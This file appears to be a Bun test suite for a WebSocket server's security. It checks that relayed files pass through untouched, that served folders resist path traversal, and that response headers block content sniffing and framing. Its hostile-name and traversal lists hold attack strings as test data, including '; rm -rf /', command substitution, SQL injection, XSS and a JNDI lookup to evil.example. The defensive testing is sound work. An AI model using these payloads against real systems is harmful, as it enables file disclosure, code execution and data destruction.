import { describe, expect, setDefaultTimeout, test } from "bun:test";
import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { opcodes } from "../support/frames.ts";
import { testTimeout } from "../support/patience.ts";
import { RawClient } from "../support/raw.ts";
import { startTestServer } from "../support/server.ts";

setDefaultTimeout(testTimeout);

/** Names that have hurt somebody who took them for paths, for markup, or for text that reads as it is written. */
const hostileNames = [
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/passwd",
  "C:\\autoexec.bat",
  "file:///etc/passwd",
  ".",
  "..",
  "",
  " ",
  ".htaccess",
  "CON",
  "NUL.txt",
  "com1",
  "a\0b.txt",
  "a\r\nContent-Type: text/html\r\n\r\n<script>",
  'a"; filename="b.exe',
  "gpj.\u202Eexe",
  "\uFEFFname",
  "x".repeat(4_096),
  "é".repeat(2_000),
  "<svg onload=alert(1)>.svg",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "$(reboot).sh",
  "`reboot`",
  "; rm -rf /",
  "'; DROP TABLE files; --",
  "%2e%2e%2fetc%2fpasswd",
  "\u0024{jndi:ldap://evil.example/a}",
  "{{constructor.constructor('alert(1)')()}}",
  "__proto__",
];

/** A file as it travels: the length of its name, the name, the bytes. */
function fileFrame(name: string, bytes: Uint8Array): Buffer {
  const length = Buffer.alloc(2);
  const encoded = Buffer.from(name);
  length.writeUInt16LE(encoded.length);
  return Buffer.concat([length, encoded, bytes]);
}

describe("files on their way (T76)", () => {
  test("[SE20] [T76] a file travels byte for byte whatever its name, and the server writes none and logs none", async () => {
    await using server = await startTestServer({ log: { level: "trace" } });
    using speaker = await RawClient.open(`${server.ws}/ws`);
    using listener = await RawClient.open(`${server.ws}/ws`);
    const before = await readdir(".");
    for (const [index, name] of hostileNames.entries()) {
      const frame = fileFrame(name, Buffer.from(`content ${index}`));
      speaker.sendFrame(opcodes.binary, frame);
      expect(await listener.nextFrame()).toEqual({ fin: true, opcode: opcodes.binary, payload: frame });
    }
    expect(await readdir(".")).toEqual(before);
    const log = server.log.text.join("");
    for (const name of hostileNames.filter(({ length }) => length > 4)) expect(log).not.toContain(name);
  });

  test("[SE20] [T76] a frame that only looks like a file, with a length that lies, is a frame like any other", async () => {
    await using server = await startTestServer();
    using speaker = await RawClient.open(`${server.ws}/ws`);
    using listener = await RawClient.open(`${server.ws}/ws`);
    for (const frame of [Buffer.of(0xff, 0xff), Buffer.of(0xff, 0xff, 0x61), Buffer.of(5), Buffer.of(1, 0, 0xff)]) {
      speaker.sendFrame(opcodes.binary, frame);
      expect((await listener.nextFrame()).payload).toEqual(frame);
    }
  });
});

describe("files that are served (T76, T77)", () => {
  const content = "<script>alert(document.domain)</script>";

  test.each([
    "/../secret.txt",
    "/../../secret.txt",
    "/%2e%2e/secret.txt",
    "/..%2fsecret.txt",
    "/..%5csecret.txt",
    "/..\\secret.txt",
    "/%252e%252e/secret.txt",
    "/./../secret.txt",
    "//../secret.txt",
    "/a/../../secret.txt",
    "/%c0%ae%c0%ae/secret.txt",
    "/.hidden",
    "/secret.txt%00.html",
    "/%",
    "//etc/passwd",
  ])("[SE20] [T76] a page's folder gives nothing for %s", async (target) => {
    const root = await mkdtemp(join(tmpdir(), "chorus-folder-"));
    try {
      await Bun.write(join(root, "secret.txt"), "secret");
      await Bun.write(join(root, "public", "index.html"), "public");
      await Bun.write(join(root, "public", ".hidden"), "secret");
      await using server = await startTestServer({ web: { directory: join(root, "public") } });
      using client = await RawClient.connect(server.url);
      const answer = await client.request({ target, replace: { Upgrade: null, Connection: "close" } });
      expect([400, 404]).toContain(answer.status);
      expect(answer.body).not.toContain("secret\n");
      expect(answer.body).not.toContain("root:");
    } finally {
      await rm(root, { recursive: true });
    }
  });

  test.each(["page.html", "image.svg", "paper.pdf", "picture.png", "unknown.xyz", "noending"])(
    "[SE21] [T77] %s of a person's own folder is sent with a type that the browser may not guess anew",
    async (name) => {
      const root = await mkdtemp(join(tmpdir(), "chorus-folder-"));
      try {
        await Bun.write(join(root, name), content);
        await using server = await startTestServer({ web: { directory: root } });
        const response = await fetch(`${server.url}/${name}`);
        expect(response.status).toBe(200);
        expect(response.headers.get("x-content-type-options")).toBe("nosniff");
        expect(response.headers.has("access-control-allow-origin")).toBe(false);
        if (!name.endsWith(".html")) expect(response.headers.get("content-type") ?? "").not.toContain("text/html");
      } finally {
        await rm(root, { recursive: true });
      }
    },
  );

  test("[SE21] [T77] our page runs nothing but its own files, may not be framed, and guesses no types", async () => {
    await using server = await startTestServer();
    const response = await fetch(server.url);
    const policy = response.headers.get("content-security-policy") ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/unsafe|\*|data:|https?:/);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  });

  test.each(["/healthz", "/readyz", "/metrics", "/nothing", "/ws"])(
    "[SE21] [T77] %s is no page, cannot be taken for one, and is open to no other origin",
    async (path) => {
      await using server = await startTestServer();
      const response = await fetch(server.url + path, { headers: { Origin: "https://evil.example" } });
      expect(response.headers.get("content-type")).toStartWith("text/plain");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.has("access-control-allow-origin")).toBe(false);
    },
  );
});
